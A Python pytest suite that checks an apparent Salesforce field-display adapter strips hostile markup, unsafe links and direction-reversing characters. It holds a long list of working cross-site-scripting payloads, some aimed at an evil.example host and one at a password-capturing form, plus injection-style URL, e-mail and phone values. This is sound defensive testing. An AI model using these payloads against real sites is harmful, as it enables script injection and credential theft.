"""What people and packages put into Salesforce comes out harmless: markup, links, unseen characters."""

import re
from html.parser import HTMLParser

import pytest

from chalicelib.adapters.account_formats import BabelFormats
from chalicelib.adapters.account_formats_html import TAGS
from chalicelib.core.account import AccountField
from chalicelib.core.account_state import FieldState, ShownValue

SHOW = BabelFormats().for_viewer(("en-US",), "UTC").show
RICH = AccountField("X__c", "X", "textarea", html=True)

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" alt="<script>alert(1)</script>" onerror=alert(1)>',
    "<img alt='\"><script>alert(1)</script>' src=x>",
    '<img alt="&lt;script&gt;alert(1)&lt;/script&gt;">',
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='https://good.example@evil.example/'>x</a>",
    "<a href='/001000000000001'>x</a>",
    "<a href='https://e.example' onclick=alert(1) style='x' target=_blank id=a>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<base href=//evil.example><a href=x>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example'</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
    "<b><i>unclosed",
    "</p></div></body></html><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<details open ontoggle=alert(1)>x",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)><p>x</p>",
    "<x onclick=alert(1)>x</x>",
    "<p>\u202egnp.exe\u202c</p>",
    "\x00<script>alert(1)</script>",
    "<a\x00 href='javascript:alert(1)'>x</a>",
    "<img/src='x'/onerror=alert(1)>",
    "<p/onclick=alert(1)>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
]


class _Seen(HTMLParser):
    """Every tag and attribute that a parser finds."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


@pytest.mark.parametrize("html", HOSTILE)
@pytest.mark.parametrize("around", ["{}", "<p>{}</p>", "<ul><li>{}", "<a href='https://e.example/'>{}</a>"])
def test_hostile_markup_comes_out_as_a_few_harmless_tags(html: str, around: str) -> None:
    shown = SHOW(RICH, around.format(html), "")
    seen = _Seen(shown.html or "")
    assert seen.tags <= TAGS
    assert {name for name, _ in seen.attributes} <= {"href", "rel"}
    assert all(re.match(r"https?://[a-z0-9.-]+(/|$)", value) for name, value in seen.attributes if name == "href")
    assert not re.search(r"[\x00\u202a-\u202e]", shown.text + (shown.html or ""))


def test_what_is_harmless_stays() -> None:
    html = '<p>One <b>two</b> <i>three</i><br>four</p><ul><li>a</li></ul><a href="https://e.example/?a=1&amp;b=2">x</a>'
    shown = SHOW(RICH, html, "")
    assert "<b>two</b>" in (shown.html or "")
    assert 'href="https://e.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow"' in (shown.html or "")
    assert shown.text == "One two three\nfour\na\n\nx"


def test_a_picture_leaves_its_description_or_a_word() -> None:
    html = '<img src="/img/flag.gif" alt="Red &amp; hot" height="16"><img src="/servlet/rtaImage?eid=1">'
    assert SHOW(RICH, html, "").text == "Red & hot[image]"


def test_a_formula_link_into_salesforce_keeps_its_text_only() -> None:
    assert SHOW(RICH, '<a href="/001000000000001AAA" target="_blank">Open</a>', "").html == (
        '<a rel="noopener noreferrer nofollow">Open</a>'
    )


@pytest.mark.parametrize("html", ["<script>x</script>", "<p></p>", "<p><br></p>", "  \n "])
def test_rich_text_without_text_is_empty(html: str) -> None:
    assert SHOW(RICH, html, "") == ShownValue(state=FieldState.EMPTY)


@pytest.mark.parametrize("piece", ["<img ", "<p>", "<a href='", "&", "<!--", " ", "\n \n", "<b><i>", "alt='", "]]>"])
def test_the_longest_rich_text_is_cleaned_too(piece: str) -> None:
    """Text that makes a careless pattern walk it again and again from every place."""
    shown = SHOW(RICH, (piece * 131_072)[:131_067] + "<p>x", "")
    assert _Seen(shown.html or "").tags <= TAGS


@pytest.mark.parametrize(
    "kind", ["string", "textarea", "picklist", "multipicklist", "url", "email", "phone", "address"]
)
@pytest.mark.parametrize("html", HOSTILE[:8])
def test_markup_in_plain_fields_stays_text(kind: str, html: str) -> None:
    value = {"city": html} if kind == "address" else html
    shown = SHOW(AccountField("X__c", "X", kind), value, "")
    assert (shown.html, shown.href) == (None, None)


@pytest.mark.parametrize(
    ("text", "href"),
    [
        ("https://example.com/a?b=c&d=é", "https://example.com/a?b=c&d=é"),
        ("HTTP://EXAMPLE.COM", "HTTP://EXAMPLE.COM"),
        ("example.com", "http://example.com"),
        ("www.example.com:8080/x", "http://www.example.com:8080/x"),
        ("javascript:alert(1)", None),
        ("java\nscript:alert(1)", None),
        ("data:text/html,<script>1</script>", None),
        ("file:///etc/passwd", None),
        ("ftp://example.com", None),
        ("mailto:a@b.example", None),
        ("//evil.example", None),
        ("/001000000000001", None),
        ("https://good.example@evil.example/", None),
        ("https://good.example\\@evil.example/", None),
        ("https://exa mple.com", None),
        ('https://example.com/" onmouseover="alert(1)', None),
        ("https://127.0.0.1/", None),
        ("https://[::1]/", None),
        ("https://localhost/", None),
        ("https://example.com:0/", None),
        ("https://example.com:99999/", None),
        ("https://[bad", None),
        ("not a site", None),
        ("https://example.com/" + "a" * 3_000, None),
    ],
)
def test_a_web_address_is_a_link_where_it_is_safe(text: str, href: str | None) -> None:
    assert SHOW(AccountField("X__c", "X", "url"), text, "").href == href


def test_a_picture_address_that_needs_a_session_is_no_link() -> None:
    field = AccountField("PhotoUrl", "Photo", "url", extra_type="imageurl")
    assert SHOW(field, "https://example.com/services/images/photo/1", "").href is None


@pytest.mark.parametrize(
    ("text", "href"),
    [
        ("zoe.martin+x@client.example", "mailto:zoe.martin%2Bx@client.example"),
        ("a@b", None),
        ("a@b.example,evil@x.example", None),
        ("a@b.example?bcc=evil@x.example", None),
        ("a@b.example\nBcc: x@y.example", None),
        ("<a@b.example>", None),
        ("a b@c.example", None),
        ("a@[127.0.0.1]", None),
    ],
)
def test_an_e_mail_address_is_a_link_where_it_is_one(text: str, href: str | None) -> None:
    assert SHOW(AccountField("X__c", "X", "email"), text, "").href == href


@pytest.mark.parametrize(
    ("text", "href"),
    [
        ("+33 1 42 68 53 00", "tel:+33142685300"),
        ("(415) 555-1212 ext. 12", "tel:4155551212;ext=12"),
        ("01.42.68.53.00", "tel:0142685300"),
        ("112", "tel:112"),
        ("1-800-FLOWERS", None),
        ("12", None),
        ("+33 1;phone-context=evil", None),
        ("call me", None),
    ],
)
def test_a_telephone_number_is_a_link_where_it_is_one(text: str, href: str | None) -> None:
    assert SHOW(AccountField("X__c", "X", "phone"), text, "").href == href


def test_characters_that_turn_the_direction_of_writing_are_taken_out() -> None:
    assert SHOW(AccountField("X__c", "X", "string"), "invoice\u202efdp.exe\u2066\x07", "").text == "invoicefdp.exe"
